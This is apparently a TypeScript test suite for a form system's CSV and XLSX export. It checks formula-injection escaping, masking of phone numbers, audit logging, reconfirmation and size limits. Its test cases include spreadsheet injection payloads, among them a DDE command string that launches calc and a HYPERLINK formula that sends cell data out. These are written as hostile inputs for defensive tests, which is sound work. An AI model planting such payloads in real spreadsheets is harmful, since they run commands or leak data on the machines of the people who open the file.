import { sql } from 'drizzle-orm'
import { strFromU8, unzipSync } from 'fflate'
import { expect, it } from 'vitest'
import { csvOf } from '../../../../../src/server/ground/csv.ts'
import { xlsxOf } from '../../../../../src/server/subjects/forms/inbox/xlsx.ts'
import { FILLED } from '../../../../support/forms.ts'
import { testInbox } from '../../../../support/inbox.ts'
import { dataOf } from '../../../../support/staff.ts'

const { send, db, work, lastLine, others } = await testInbox()

it.each(['csv', 'xlsx'] as const)(
  '%s: no cell is a formula, sensitive ones are masked, and the log says who took it',
  async (format) => {
    await send('intention', { ...FILLED, name: '=HYPERLINK("x")', shops: [{ no: '@SUM(1)' }] })
    await send('intention', { ...FILLED, name: '＝1+1', subject: 'company', code: '91350100M000100Y43' })
    const file = async (body: object = {}) => {
      const answer = await work('export', { formKey: 'intention', format, reason: '每周汇总', ...body })
      const { bytes, name } = dataOf<{ bytes: string; name: string }>(answer.body)
      const raw = Buffer.from(bytes, 'base64')
      const text =
        format === 'csv' ? raw.toString() : strFromU8(unzipSync(raw)['xl/worksheets/sheet1.xml'] ?? raw)
      return { status: answer.status, name, text }
    }
    const { text, name } = await file()
    expect(name).toBe(`intention-2026-11-20.${format}`)
    expect(text).toContain(format === 'csv' ? `"'=HYPERLINK(""x"")"` : `>'=HYPERLINK("x")<`)
    expect(text).toContain("'@SUM(1)")
    expect(text).toContain("'＝1+1")
    expect(text).not.toContain('13800000000')
    expect(text).not.toMatch(/<f>|t="str"/)
    expect(await lastLine()).toMatchObject({
      action: 'submissions-exported',
      subject: 'intention',
      reason: '每周汇总',
      detail: { rows: '2', open: 'false' },
    })
    expect((await file({ isOpen: true })).text).toContain('13800000000')
    expect((await file({ words: 'HYPERLINK' })).text).not.toContain('＝')
  },
)

it('more than one file may hold are refused, never cut', async () => {
  const id = await send('survey', { overall: 5 })
  await db.execute(sql`insert into form_submission
    select (jsonb_populate_record(one, jsonb_build_object('id', n, 'number', n, 'idempotency_key', n, 'once_key', null))).*
    from form_submission one, generate_series(1, 20000) n where one.id = ${id}`)
  const filling = { formKey: 'survey', format: 'csv', reason: '每周汇总' }
  expect((await work('export', filling, others)).status).toBe(422)
})

it('an export asks for the second factor, or the password, again', async () => {
  await db.execute(sql`update staff_session set confirmed_at = now() - interval '1 hour'`)
  const answer = await work('export', { formKey: 'intention', format: 'csv', reason: '每周汇总' })
  expect([answer.status, Reflect.get(answer.body ?? {}, 'reason')]).toEqual([403, 'confirm'])
  await db.execute(sql`update staff_session set confirmed_at = now()`)
})

it('a sheet is as programs that read it ask: rows from one, no cell longer than 32,767 letters', async () => {
  const sheet =
    unzipSync(await xlsxOf([['编号'], ['A & B'], ['长'.repeat(40_000)]]))['xl/worksheets/sheet1.xml'] ??
    new Uint8Array()
  const rows = [...strFromU8(sheet).matchAll(/<row r="(\d+)">.*?<t[^>]*>(.*?)<\/t>/g)]
  expect(rows.map(([, number, cell]) => [number, cell])).toEqual([
    ['1', '编号'],
    ['2', 'A &amp; B'],
    ['3', '长'.repeat(32_767)],
  ])
})

it.each([
  '=1+1',
  '+cmd|x',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r\n=1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  '\u3000＝1',
  '＋1+1',
  '－1-1',
  '＠x',
  '﹦1',
  '﹢1+1',
  '﹣1-1',
  '﹫x',
  '⁼1',
  '−1+1',
  "=cmd|' /C calc'!A0",
  '+1(2)',
  '-1e5',
  '=HYPERLINK("https://x/?"&A1)',
])('as a title or an answer, %j is no formula', async (text) => {
  const [titles = '', answers = ''] = csvOf([
    ['编号', text],
    ['1', text],
  ]).split(/\r\n(?=1,)/)
  for (const row of [titles, answers]) expect(row).toMatch(/^\ufeff?[^,]+,"?'/)
  const sheet = unzipSync(await xlsxOf([[text], [text]]))['xl/worksheets/sheet1.xml'] ?? new Uint8Array()
  expect(strFromU8(sheet).match(/<c t="inlineStr"><is><t[^>]*>'/g)).toHaveLength(2)
  expect(strFromU8(sheet)).not.toMatch(/<f>|t="str"/)
})

it.each(['-1', '+1.5', '0', '2026-11-22', '13800000000', 'a=b', '（=1）'])('%j stays as it is', (text) => {
  expect(csvOf([[text]])).toBe(`\uFEFF${text}\r\n`)
})
